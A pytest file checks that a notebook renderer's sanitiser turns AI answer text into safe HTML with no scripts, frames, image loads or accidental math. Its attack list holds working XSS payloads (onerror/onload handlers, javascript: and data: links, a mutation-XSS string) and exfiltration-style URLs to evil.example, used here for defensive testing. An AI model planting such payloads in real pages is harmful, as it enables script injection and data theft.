"""Answer text -> safe HTML: nothing from an answer can run, load a frame, or become math."""

from __future__ import annotations

import re

import pytest

from claude_force_magic.notebook.render import (
    NO_MATH,
    chrome_html,
    markdown_to_html,
    output_html,
    sanitize,
)

ATTACKS = [
    '<img src=x onerror="window.__x=42">',
    "<script>window.__x=42</script>",
    "<svg onload=alert(1)></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<div style="position:fixed;inset:0">cover</div>',
    '<object data="x.swf"></object><embed src="x">',
    '<form action="https://evil.example"><input name=a></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
]

_ACTIVE = re.compile(
    r"<(script|iframe|img|svg|object|embed|form|input|style|math|details|base|meta)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:",
    re.I,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_answer_can_run_or_load(attack: str) -> None:
    page = output_html(f"Intro\n\n{attack}\n\nOutro", label="a", footer="f")
    tags = re.findall(r"<[^>]+>", page)  # the markup itself, not text shown as text
    for tag in tags:
        assert not _ACTIVE.search(tag), (attack, tag)
    assert "style=" not in " ".join(t for t in tags if "cfm-" not in t and "<sub" not in t)


def test_an_answer_that_discusses_html_shows_the_tags_as_text() -> None:
    page = markdown_to_html("Use `<b>` or write <b>bold</b> and <script>x()</script>.")
    assert "<code>&lt;b&gt;</code>" in page
    assert "&lt;b&gt;bold&lt;/b&gt;" in page
    assert "&lt;script&gt;x()&lt;/script&gt;" in page


def test_markdown_structures_keep_working() -> None:
    text = (
        "# Title\n\n## Sub\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\ndef f(x):\n    return x < 1\n```\n\n"
        "See [docs](https://docs.python.org/3/) and <https://example.org>, mail "
        "[me](mailto:a@example.org). **bold** _em_ ~~gone~~"
    )
    page = markdown_to_html(text)
    for needle in (
        "<h1>Title</h1>",
        "<h2>Sub</h2>",
        "<ul>",
        "<ol>",
        "<blockquote>",
        "<table>",
        '<td style="text-align:right">2</td>',
        '<code class="language-python">def f(x):\n    return x &lt; 1',
        '<a href="https://docs.python.org/3/" target="_blank" rel="noopener noreferrer nofollow">'
        "docs</a>",
        '<a href="https://example.org"',
        '<a href="mailto:a@example.org"',
        "<strong>bold</strong>",
        "<em>em</em>",
        "<s>gone</s>",
    ):
        assert needle in page, needle


def test_images_become_links_so_rendering_loads_nothing() -> None:
    page = markdown_to_html("![chart](https://evil.example/leak?data=secret)")
    assert "<img" not in page
    assert '<a href="https://evil.example/leak?data=secret"' in page
    assert ">chart</a>" in page


def test_only_language_classes_survive_sanitising() -> None:
    cleaned = sanitize(
        '<code class="language-py">x</code><code class="jp-Foo mathjax_process">y</code>'
        '<p class="tex2jax_process">z</p>'
    )
    assert cleaned == '<code class="language-py">x</code><code>y</code><p>z</p>'


def test_our_lines_and_answers_are_never_math_by_default() -> None:
    page = output_html(
        "It costs $5 and then $6.",
        label="python-expert",
        footer="$0 · cache hit (saved $0.0035, age 0 s)",
        error="BudgetExceededError: $1.00 would be exceeded",
    )
    blocks = re.findall(r'<div class="([^"]+)">', page)
    assert blocks[0] == "cfm-output"
    for classes in blocks[1:]:
        assert NO_MATH in classes, classes
    assert "$0 · cache hit (saved $0.0035, age 0 s)" in page


def test_math_mode_leaves_the_answer_typesettable_and_intact() -> None:
    text = r"Euler: $e^{i\pi} + 1 = 0$ and $a_1 * b_1$ and $$x_{i} \\ y_{j}$$ and \(z_1\)"
    page = output_html(text, footer="$0 · cache hit", math=True)
    body = re.search(r'<div class="cfm-body">(.*?)</div>', page, re.S)
    assert body is not None, page
    inner = body.group(1)
    assert r"$e^{i\pi} + 1 = 0$" in inner
    assert "$a_1 * b_1$" in inner  # not turned into emphasis
    assert r"$$x_{i} \\ y_{j}$$" in inner  # backslashes kept
    assert r"\(z_1\)" in inner
    assert f'<div class="cfm-footer {NO_MATH}">' in page


def test_math_mode_does_not_let_math_spans_smuggle_html() -> None:
    page = markdown_to_html("$<img src=x onerror=alert(1)>$", math=True)
    assert "<img" not in page
    assert "&lt;img" in page


def test_chrome_is_escaped() -> None:
    assert "&lt;b&gt;" in chrome_html("<b>", kind="label")
